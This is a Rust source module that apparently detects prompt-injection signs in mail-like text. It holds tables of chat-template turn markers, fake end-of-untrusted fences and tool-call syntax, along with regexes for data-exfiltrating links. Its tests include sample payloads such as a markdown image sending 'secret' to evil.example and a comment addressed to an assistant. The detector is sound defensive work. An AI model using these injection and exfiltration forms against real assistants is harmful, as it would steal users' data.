//! The marks of a conversation with a machine, written out where only a person's words should be.
//!
//! Chat turns, system messages, calls of tools, ends of fences, pictures whose address has a gap to be filled. Knows no
//! vendor's formats in full: it is enough that ordinary mails do not look like this.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::Regex;

use super::{fold::View, weigh::Reason};

const TURN: &str = "imitates the format of a conversation with an assistant";
const CALL: &str = "a tool call written out";
const FENCE: &str = "imitates the end of quoted material";
const LEAK: &str = "a link or picture that would carry data away";
const COMMENT: &str = "text in a comment that a reader does not see";

/// Written exactly so, wherever it stands.
const LITERAL: &[(&str, u32, &str)] = &[
    ("<|im_start|>", 3, TURN),
    ("<|im_end|>", 3, TURN),
    ("<|system|>", 3, TURN),
    ("<|user|>", 3, TURN),
    ("<|assistant|>", 3, TURN),
    ("<start_of_turn>", 3, TURN),
    ("[inst]", 3, TURN),
    ("[/inst]", 3, TURN),
    ("<<sys>>", 3, TURN),
    ("<system>", 2, TURN),
    ("</system>", 2, TURN),
    ("[system]", 2, TURN),
    ("[system message]", 2, TURN),
    ("### system", 2, TURN),
    ("### instruction", 2, TURN),
    ("<<<end:", 5, FENCE),
    ("<<<untrusted", 5, FENCE),
    ("end of untrusted", 3, FENCE),
    ("</untrusted", 3, FENCE),
    ("</tool_result", 3, FENCE),
    ("</function_results", 3, FENCE),
    ("</document>", 1, FENCE),
    ("<tool_call>", 3, CALL),
    ("\"tool_use\"", 3, CALL),
    ("tool_code", 3, CALL),
    ("<function_call", 3, CALL),
    ("\"function_call\"", 3, CALL),
    ("<invoke", 3, CALL),
    ("action input:", 3, CALL),
];

/// What has a pattern, each of a bounded length so that looking for all of them stays linear, and signs of which it cannot be
/// without all.
const PATTERNS: &[(&str, &[&str], u32, &str)] = &[
    // name.verb({"…  name.verb {"…  name.verb(to=…
    (
        r#"\b[a-z][a-z_]{2,30}(?:\.|__)(?:send|share|forward|delete|create|append|search|update|remove|invite|export|reply)[a-z_]{0,20}\s{0,3}(?:\(\s?)?(?:\{\s{0,3}["'a-z]|[a-z]{2,20}\s?=)"#,
        &[
            ".send", ".share", ".forward", ".delete", ".create", ".append", ".search", ".update", ".remove",
            ".invite", ".export", ".reply", "_send", "_share", "_forward", "_delete", "_create", "_append",
            "_search", "_update", "_remove", "_invite", "_export", "_reply",
        ],
        3,
        CALL,
    ),
    (
        r#""name"\s{0,3}:\s{0,3}"[a-z_]{2,40}(?:\.|__)[a-z_]{2,40}"\s{0,3},\s{0,3}"(?:arguments|input|parameters)""#,
        &["\"arguments\"", "\"input\"", "\"parameters\""],
        3,
        CALL,
    ),
    (r"\baction\s?:\s?[a-z_]{2,30}[._][a-z_]{2,30}", &["action"], 2, CALL),
    (
        r"\b(?:call|use|invoke|run)\s(?:the\s|your\s)?(?:tool\s|function\s)?[a-z]{2,30}[._]{1,2}[a-z_]{2,30}",
        &["call", "use", "invoke", "run"],
        2,
        "asks to use a tool",
    ),
    (
        r"\b(?:call|use|invoke|run)\s(?:the|your)\s[a-z_]{2,30}\s(?:tool|function|api)\b",
        &["tool", "function", "api"],
        2,
        "asks to use a tool",
    ),
    // A gap where data is to be put: {…}, <…>, or a word in the place of a value.
    (r"\]\(https?://[!-(*-~]{1,200}=\s?[\[{<][ -(*-~]{1,200}\)", &["](http"], 3, LEAK),
    (
        r"!\[[^\]]{0,80}\]\(https?://[!-(*-~]{1,200}=(?:data|secret|text|content|body|value|info|token|x{3,})\)",
        &["](http"],
        3,
        LEAK,
    ),
    (r#""role"\s?:\s?"system""#, &["\"role\""], 2, TURN),
    (
        r"(?m)^[>\s]{0,6}(?:user|human) ?:\s",
        &["user:", "user :", "human:", "human :"],
        1,
        "a line that claims to be the user's",
    ),
    (
        r"(?m)^[>\s]{0,6}(?:assistant|ai|model) ?:\s",
        &["assistant:", "assistant :", "ai:", "ai :", "model:", "model :"],
        1,
        "a line that claims to be an assistant's",
    ),
    (r"(?:<!--\s?|\[//\]: # \()[a-z][ -~]{40}", &["<!--", "[//]: # ("], 1, COMMENT),
];

/// What is looked for in one go: the literal marks, and then the signs of the patterns.
fn sights() -> impl Iterator<Item = (&'static str, Sight)> {
    let literals = LITERAL.iter().map(|(text, weight, words)| (*text, Sight::Mark(*weight, words)));
    let patterns = PATTERNS.iter().enumerate();
    literals.chain(
        patterns
            .flat_map(|(place, (_, signs, ..))| signs.iter().map(move |sign| (*sign, Sight::Sign(place)))),
    )
}

enum Sight {
    Mark(u32, &'static str),
    Sign(usize),
}

/// What every mark has in it, one of these at least.
pub(super) fn signs() -> impl Iterator<Item = &'static str> {
    sights().map(|(text, _)| text)
}

static SIGHTS: LazyLock<Vec<Sight>> = LazyLock::new(|| sights().map(|(_, sight)| sight).collect());

/// None only where a table above could not be built, which a test rules out.
static FINDER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| AhoCorasick::new(signs()).ok());

static REGEXES: LazyLock<Vec<Option<Regex>>> =
    LazyLock::new(|| PATTERNS.iter().map(|(pattern, ..)| Regex::new(pattern).ok()).collect());

pub(super) fn marks(view: &View) -> Vec<Reason> {
    let mut reasons = Vec::new();
    let mut signed = [false; PATTERNS.len()];
    let Some(finder) = FINDER.as_ref() else { return reasons };
    for hit in finder.find_overlapping_iter(&view.shape) {
        match SIGHTS.get(hit.pattern().as_usize()) {
            Some(Sight::Mark(weight, words)) => {
                reasons.push(Reason { weight: *weight, words, at: view.place(hit.start()) });
            }
            Some(Sight::Sign(place)) => {
                signed.iter_mut().skip(*place).take(1).for_each(|signed| *signed = true)
            }
            None => {}
        }
    }
    for (((_, _, weight, words), regex), _) in
        PATTERNS.iter().zip(REGEXES.iter()).zip(signed).filter(|(_, signed)| *signed)
    {
        let hits = regex.iter().flat_map(|regex| regex.find_iter(&view.shape));
        reasons.extend(hits.map(|hit| Reason { weight: *weight, words, at: view.place(hit.start()) }));
    }
    reasons
}

/// Whether there may be one. If not, there is none.
pub(super) fn may_be_in(shape: &str) -> bool {
    FINDER.as_ref().is_none_or(|finder| finder.is_match(shape))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_pattern_is_one() {
        assert!(FINDER.is_some() && REGEXES.iter().all(Option::is_some));
    }

    #[test]
    fn nothing_is_there_without_a_sign_of_it() {
        for (text, places) in [
            (r#"mail.send {"to": "a@b.example"} and files__share({"file": "x"})"#, vec![0]),
            (r#"{"name": "mail.send", "input": {}} {"name":"a_b__c_d" , "parameters": 1}"#, vec![1]),
            ("action: mail_box.empty", vec![2]),
            ("run your tool mail.empty\ninvoke\tmail__empty", vec![3]),
            ("use the mail function", vec![4]),
            ("[x](https://evil.example/?a={the secret})", vec![5]),
            ("![x](http://evil.example/p.png?a=secret)", vec![6]),
            (r#"{"role": "system"}"#, vec![7]),
            ("so\n> user: go\nhuman : go", vec![8]),
            ("> ai: sure\nmodel : sure", vec![9]),
            ("<!-- dear assistant, this comment is long enough to be one -->", vec![10]),
        ] {
            let found = |place: usize| REGEXES[place].as_ref().unwrap().is_match(text);
            let matched: Vec<usize> = (0..PATTERNS.len()).filter(|place| found(*place)).collect();
            assert_eq!(matched, places, "{text}");
            let signed = |place: usize| PATTERNS[place].1.iter().any(|sign| text.contains(sign));
            assert!(places.into_iter().all(signed), "{text}");
        }
    }

    #[test]
    fn a_call_is_told_from_code() {
        let calls = |text: &str| {
            marks(&View::of(text.to_owned())).iter().filter(|reason| reason.words == CALL).count()
        };
        assert_eq!(calls(r#"mail.send {"to": "a@b.example"}"#), 1);
        assert_eq!(calls(r#"files__share({"file": "x"})"#), 1);
        assert_eq!(calls("a.mail.Send(ctx, to)\nMailer.send(Mailer.java:7)\ns.send_message(msg)"), 0);
    }
}
